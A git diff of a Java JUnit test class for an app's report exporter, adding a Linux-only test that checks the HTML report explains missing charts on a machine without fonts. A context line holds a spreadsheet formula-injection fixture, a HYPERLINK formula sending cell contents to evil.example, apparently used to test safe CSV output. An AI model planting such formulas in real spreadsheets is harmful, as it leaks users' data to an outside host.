@@ -7,6 +7,7 @@ import com.networknt.schema.InputFormat;
 import com.networknt.schema.Schema;
 import com.networknt.schema.SchemaRegistry;
 import com.networknt.schema.SpecificationVersion;
+import dev.paperclick.ChildClassPath;
 import dev.paperclick.RealOffice;
 import dev.paperclick.platform.UserProblem;
 import dev.paperclick.reports.Report;
@@ -18,6 +19,7 @@ import java.io.InputStream;
 import java.nio.charset.StandardCharsets;
 import java.nio.file.Files;
 import java.nio.file.Path;
+import java.util.ArrayList;
 import java.util.HashSet;
 import java.util.List;
 import java.util.Locale;
@@ -32,6 +34,8 @@ import org.apache.poi.xssf.usermodel.XSSFTable;
 import org.apache.poi.xssf.usermodel.XSSFWorkbook;
 import org.junit.jupiter.api.Named;
 import org.junit.jupiter.api.Test;
+import org.junit.jupiter.api.condition.EnabledOnOs;
+import org.junit.jupiter.api.condition.OS;
 import org.junit.jupiter.api.io.TempDir;
 import org.junit.jupiter.params.ParameterizedTest;
 import org.junit.jupiter.params.provider.MethodSource;
@@ -145,7 +149,7 @@ class ReportFormatTests {
                         "\"=HYPERLINK(\"\"https://evil.example/?\"\"&A1,\"\"Click\"\")\",Lifecycle Marketing Manager")
                 .contains(",2026-11-19,12,6,0,0,2,12,2026-11-20 07:00");
         assertThat(Files.readString(folder.resolve("report-Overview.csv")))
-                .contains("Applications sent", "+100%", "All clicks");
+                .contains("Applications sent", "30,,10,,64,,41,,3,,1", "By machines,,,,,6");
     }
 
     @Test
@@ -154,6 +158,47 @@ class ReportFormatTests {
                 .isInstanceOf(UserProblem.class)
                 .hasMessage("Reports cannot be written as 'pdf'; formats are csv, html, json, xlsx.");
         assertThat(folder).isEmptyDirectory();
+    }
+
+    /** Elsewhere there are always fonts. */
+    @Test
+    @EnabledOnOs(OS.LINUX)
+    void aPageIsMadeOnAMachineWithoutFontsAndSaysWhyItHasNoCharts() throws IOException, InterruptedException {
+        Path fonts = Files.writeString(folder.resolve("none.conf"), "<fontconfig><dir>/nonexistent</dir></fontconfig>");
+        Path page = folder.resolve("report.html");
+        List<String> command = new ArrayList<>();
+        command.add(Path.of(System.getProperty("java.home"), "bin", "java").toString());
+        // it remembers fonts there
+        command.add("-Duser.home=" + folder);
+        command.add("-Djava.awt.headless=true");
+        command.addAll(ChildClassPath.options());
+        command.addAll(List.of(PageMain.class.getName(), page.toString()));
+        ProcessBuilder builder = new ProcessBuilder(command)
+                .redirectErrorStream(true)
+                .redirectOutput(folder.resolve("said.txt").toFile());
+        builder.environment().put("FONTCONFIG_FILE", fonts.toString());
+
+        assertThat(builder.start().waitFor()).as(() -> said(folder)).isZero();
+
+        assertThat(Files.readString(page))
+                .contains("The chart could not be drawn: this machine has no fonts.")
+                .contains("48 applications were sent")
+                .doesNotContain("<svg");
+    }
+
+    private static String said(Path folder) {
+        try {
+            return Files.readString(folder.resolve("said.txt"));
+        } catch (IOException e) {
+            return e.toString();
+        }
+    }
+
+    /** Writes a page to the file that it is given. */
+    static final class PageMain {
+        public static void main(String[] arguments) throws IOException {
+            FILES.write(SampleReports.aFirm(), Path.of(arguments[0]));
+        }
     }
 
     private static List<String> headers(Sheet sheet) {
